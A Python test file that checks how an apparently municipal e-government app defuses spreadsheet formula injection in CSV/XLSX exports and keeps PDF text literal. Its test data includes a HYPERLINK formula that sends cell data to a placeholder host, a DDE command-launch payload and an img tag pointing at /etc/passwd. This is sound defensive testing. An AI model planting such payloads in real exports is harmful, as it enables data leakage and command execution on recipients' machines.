"""The core's export and document guards (issue 10, 3-4): ``ebelediye.exports``."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from reportlab.lib.styles import ParagraphStyle

from ebelediye import exports

HOSTILE = ['=HYPERLINK("http://kotu.example/?x="&A1,"Tıkla")', "+90 555 1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", '=cmd|" /C calc"!A0']
HARMLESS = ["Ayşe Yılmaz", "-12,50", "1.250,40", "+5", "-3", "2026-12-01", "a=b", "", "Örnek A.Ş."]
MARKUP = ['<b>x</b> & <unclosed', '<img src="/etc/passwd"/>', '<font name="x">y</font>', "a < b & c > d",
          '<para>"tırnak"</para>', "<br/>"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_looking_text_is_neutralised_in_csv(value):
    assert exports.csv_cell(value) == "'" + value
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerow(exports.csv_row([value, 1]))
    cell = next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))[0]
    assert cell[0] == "'" and cell[1:] == value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(value):
    assert exports.csv_cell(value) == value
    assert exports.csv_cell(12) == 12 and exports.csv_cell(None) is None


def test_no_xlsx_cell_is_a_formula():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HOSTILE)
    sheet.append(HARMLESS)
    assert exports.neutralise_sheet(sheet) == len(HOSTILE)
    out = io.BytesIO()
    book.save(out)
    with __import__("zipfile").ZipFile(io.BytesIO(out.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml  # no formula element at all
    again = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    first = again[1][:len(HOSTILE)]
    # the text itself is kept, as text (XML reads a carriage return as a line feed)
    assert [c.value for c in first] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in first)


@pytest.mark.parametrize("value", MARKUP)
def test_user_text_in_a_pdf_paragraph_stays_literal(value):
    paragraph = exports.paragraph(value, ParagraphStyle("t"))
    assert paragraph.getPlainText() == value
    assert not any(getattr(frag, "img", None) or getattr(frag, "bold", 0) for frag in paragraph.frags)


def test_pdf_text_drops_control_characters():
    assert exports.pdf_text("a\x00b\x07c\nd") == "abc\nd" and exports.pdf_text(None) == ""
